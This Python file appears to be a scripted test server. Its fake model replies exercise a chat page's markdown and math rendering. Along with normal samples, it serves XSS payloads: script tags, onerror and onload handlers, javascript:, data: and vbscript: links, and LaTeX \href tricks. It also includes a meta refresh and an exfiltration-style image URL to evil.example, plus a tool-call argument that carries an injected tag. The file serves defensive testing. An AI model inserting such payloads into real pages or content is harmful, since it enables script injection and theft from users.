"""A server for the check of the chat page: words in the last message choose what its model replies."""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "helpers"))

from scripted_model import Message, ScriptedModel, call, serve_until_signal, text_of

MARKDOWN = """\
# Mountain goats

A **tahr** is *not quite* a goat; see [the entry](https://example.org/tahr "entry") or https://example.org/a_b.

1. First
   - nested, with `code`
2. Second
   continued

- [x] done
- [ ] open

| name | height |
|:-----|-------:|
| Himalayan | 100 cm |
| Nilgiri | 110 cm |

```python
# how high
def height(name: str = "tahr") -> float:
    return 1.0 if name else 0
```

> A quote with ~~no~~ **some** meaning.
"""
MATH = r"""
Inline \(a^2 + b_1*c*\) and $E = mc^2$, for $5 or $10:

\[
\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
\]

1. A vector \(\vec{v}\) and a matrix:
   $$
   A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}
   $$

\begin{align*}
f(x) &= \sum_{n=0}^{\infty} \frac{x^n}{n!} \\
&= e^x
\end{align*}

Code stays `\(x\)`; wrong stays \(\frac{a}\); wide: $$WIDE$$
""".replace("WIDE", " + ".join(f"x_{{{i}}}" for i in range(1, 31)))
HOSTILE_MATH = (
    r"\(\href{javascript:window.hacked=1}{x}\) \(\includegraphics{https://evil.example/x.png}\) "
    r"\(\text{<img src=x onerror=window.hacked=1>}\) \(\htmlStyle{position:fixed}{x}\) \(\kern{-999em}away\) "
    r"\(\def\a{\a\a}\a\) \(\url{https://evil.example/}\) \(\frac{<script>window.hacked=1</script>}\)"
    + f"\n\n$${'{' * 10_000}$$\n\n"
    + "\\frac{" * 20
    + " and \\(unfinished"
)
BROKEN = "Before.\n\n```constructor\nx = 1\n```\n\n```__proto__\ny\n```\n\nAfter."
HOSTILE = """\
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload="window.hacked = 1">
<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><a href="javascript:window.hacked = 1">html link</a>

[script](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[up](JaVaScRiPt:window.hacked=1) [tab](java\tscript:window.hacked=1) [file](file:///etc/passwd) ![picture](https://evil.example/steal?said=all)
[ok](https://example.org/"onclick="window.hacked=1)

```html"><script>window.hacked = 1</script>
</code></pre><script>window.hacked = 1</script>
```

| <img src=x onerror=window.hacked=1> | `<b>` |
|---|---|
| **<style>body { display: none }</style>** | [a](vbscript:x) |

# <meta http-equiv="refresh" content="0; url=https://evil.example">
"""
DEEP = (
    ">" * 3000
    + "- " * 3000
    + "*a " * 3000
    + "a* " * 3000
    + "[" * 3000
    + "`" * 999
    + "\n"
    + "|" * 2000
    + "\n"
    + "|-" * 1000
)

PAGES = {
    "MARKDOWN": MARKDOWN,
    "HOSTILE": HOSTILE,
    "DEEP": DEEP,
    "EVILMATH": HOSTILE_MATH,
    "MATH": MATH,
    "BROKEN": BROKEN,
    "ENDLESS": "word " * 20_000,
}


def play(messages: list[Message], tools: list[dict[str, object]]) -> str:
    last = messages[-1]
    text = text_of(last)
    if last["role"] == "tool":
        return f"The tool says: {text}"
    if "TOOL" in text:
        return "Let me look." + call("get_weather", city='Rome <img src=x onerror="window.hacked=1">')
    if "THINK" in text:
        return "<think>\nFirst I **weigh** it.\n<b>no tag</b>\n</think>\n\nThe answer is 42."
    return next((page for word, page in PAGES.items() if word in text), f"You said: {text}")


serve_until_signal(ScriptedModel(play), ready=lambda address: print(f"Ready on {address} ", flush=True))
